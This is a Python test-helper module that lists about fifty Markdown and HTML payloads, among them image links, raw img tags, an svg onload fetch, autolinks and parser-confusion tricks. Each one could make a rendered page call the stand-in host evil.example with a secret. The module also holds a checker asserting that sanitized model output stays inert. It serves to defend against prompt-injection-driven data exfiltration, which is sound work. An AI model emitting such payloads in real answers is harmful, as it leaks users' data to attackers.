"""Every way model text could make a page fetch an address, and the check that none can.

The checker parses Markdown as CommonMark with raw HTML allowed (plus GFM tables
and strikethrough) and asks the three GFM renderers of ``markdown_renderers``:
inert means no image, link or HTML comes out, and no address a browser would
fetch or follow is in the rendered HTML.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.helpers.markdown_renderers import live_parts

__all__ = ["EXFILTRATION", "RENDERER", "SECRET", "assert_inert", "hostile_answer", "live_tokens"]

# The renderer an attacker would hope for: raw HTML on, tables and strikethrough.
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
SECRET = "SECRET"
# Each way the model (steered by a document) could make the page fetch an address.
EXFILTRATION = {
    "image": f"![x](https://evil.example/?q={SECRET})",
    "escaped bang": f"\\![x](https://evil.example/?q={SECRET})",
    "double backslash": f"\\\\![x](https://evil.example/?q={SECRET})",
    "reference image": f"![x][r]\n\n[r]: https://evil.example/?q={SECRET}",
    "collapsed reference": f"![r][]\n\n[r]: https://evil.example/?q={SECRET}",
    "shortcut reference": f'![r]\n\n[r]: <https://evil.example/?q={SECRET}> "t"',
    "angle destination": f"![x](<https://evil.example/?q={SECRET}> 'title')",
    "raw img": f'<img src="https://evil.example/?q={SECRET}">',
    "raw img inline": f"Text <img src='https://evil.example/?q={SECRET}' /> more",
    "html block": f'<div>\n<img src="https://evil.example/?q={SECRET}">\n</div>',
    "svg onload": f"<svg onload=\"fetch('https://evil.example/?q={SECRET}')\"></svg>",
    "entity encoded": f"&#33;[x](https://evil.example/?q={SECRET}) &lt;img src=x&gt;",
    "autolink": f"<https://evil.example/?q={SECRET}>",
    "bare url": f"See https://evil.example/?q={SECRET} now",
    "www url": f"See www.evil.example/?q={SECRET} now",
    "email": f"Mail {SECRET}@evil.example now",
    "link": f"[click](https://evil.example/?q={SECRET})",
    "image in link": f"[![x](https://evil.example/i?q={SECRET})](https://evil.example/)",
    "in list": f"- item\n- ![x](https://evil.example/?q={SECRET})",
    "in quote": f"> ![x](https://evil.example/?q={SECRET})",
    "in heading": f"# Title ![x](https://evil.example/?q={SECRET})",
    "in table": f"| a | b |\n|---|---|\n| `x` | ![x](https://evil.example/?q={SECRET}) |",
    "pipe in table code": (
        f"| a | b |\n|---|---|\n| `x\\|y` ![x](https://evil.example/?q={SECRET}) | z |"
    ),
    "in emphasis": f"**![x](https://evil.example/?q={SECRET})**",
    "split over lines": f"![x](\nhttps://evil.example/?q={SECRET}\n)",
    "data url": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "math": "$\\href{https://evil.example/}{x}$ and $$\\includegraphics{https://evil.example}$$",
    "streamlit directive": ":red[x] :material/home: ![x](https://evil.example/q)",
    # Issue 21 item 1: an address, then a code span; the two spans' fences merged.
    "mail then code": f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``",
    "url then code": f"See https://e.x/``x`![y](http://evil.example/?q={SECRET})``",
    "www then code": f"www.e.x`````a````![x](http://evil.example/?q={SECRET})`````",
    "code then mail": f"``![x](http://evil.example/?q={SECRET})`b``a@e.x",
    "link label is the code": f"[`x`](`x`)``![x](http://evil.example/?q={SECRET})``",
    # Issue 21 item 4: GFM takes `_` for punctuation before an address; Python's \b does not.
    "underscore http": f"_http://evil.example/?q={SECRET}",
    "underscore www": f"x_www.evil.example/?q={SECRET}",
    "underscore www heading": f"# x_www.evil.example/?q={SECRET}",
    "underscore in cell": f"| a |\n|---|\n| x_www.evil.example/?q={SECRET} |",
    "bare www": "see www. and WWW.evil.example now",
    "digit http": f"1http://evil.example/?q={SECRET}",
    # Found by the fuzzing: cmark-gfm links an address whose domain starts with a dot, and
    # finds e-mail addresses through backslash escapes.
    "dot domain email": f"?q={SECRET}x@.evil.example#/",
    "escaped email": f"{SECRET}\\@evil\\.example",
    # Beyond the list.
    "entity backticks": f"Mail a@e.x&#96;&#96;b&#96;![x](http://evil.example/?q={SECRET})&#96;&#96;",
    "entity www": f"w&#119;w&#46;evil.example/?q={SECRET} and a&#64;evil.example",
    "reference over lines": f"![x][r]\n\n[r]:\n  http://evil.example/?q={SECRET}\n  'title'",
    "definition first": f"[r]: http://evil.example/?q={SECRET}\n\n![x][r] [r]",
    "nested brackets": f"[[![x](http://evil.example/?q={SECRET})]](http://e.x/) ![a [b] c](http://e.x/)",
    "code in link text": f"[a@e.x`b`](http://evil.example/?q={SECRET})``![x](http://e.x/)``",
    "backslash line end": f"a@e.x\\\n![x](http://evil.example/?q={SECRET})\\",
    "table pipe code": (
        f"| a | b |\n|---|---|\n| www.e.x`|`![x](http://evil.example/?q={SECRET})` | z |"
    ),
    "look-alike backticks": (
        f"a@e.x\u02cbb\u02cb![x](http://evil.example/?q={SECRET}) \uff40x\uff40"
    ),
    "fullwidth": (
        f"\uff57\uff57\uff57\uff0eevil.example a\uff20evil.example ![x](http://e.x/?q={SECRET})"
    ),
    "crlf": (
        f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``\r\n![x]\r\n\r\n[x]: http://e.x/\r\n"
    ),
}


def hostile_answer() -> str:
    """Every variant in one answer, each with its own secret.

    Distinct secrets keep any run of words from repeating, which the
    repetition guard would take for a loop and cut.
    """
    variants = EXFILTRATION.values()
    return "\n\n".join(text.replace(SECRET, f"{SECRET}{n}") for n, text in enumerate(variants))


# A web address in the rendered HTML: the thing a browser would fetch or follow.
ADDRESS_ATTRIBUTE = re.compile(
    r"<(?:img|a|script|iframe|svg|source|video|audio|link|object|embed)\b"
    r"|<[a-z][^>]*\s(?:src|href|srcset|poster|data)="
)


def live_tokens(markdown: str) -> list[str]:
    """The images, links and raw HTML a CommonMark renderer finds in ``markdown``."""
    found: list[str] = []
    stack: list[Token] = list(RENDERER.parse(markdown))
    while stack:
        token = stack.pop()
        if token.type in {"image", "link_open", "html_inline", "html_block"}:
            found.append(f"{token.type}: {token.content or token.attrs}")
        stack.extend(token.children or [])
    return found + live_parts(markdown)


def assert_inert(markdown: str) -> None:
    assert live_tokens(markdown) == []
    assert not ADDRESS_ATTRIBUTE.search(RENDERER.render(markdown)), RENDERER.render(markdown)
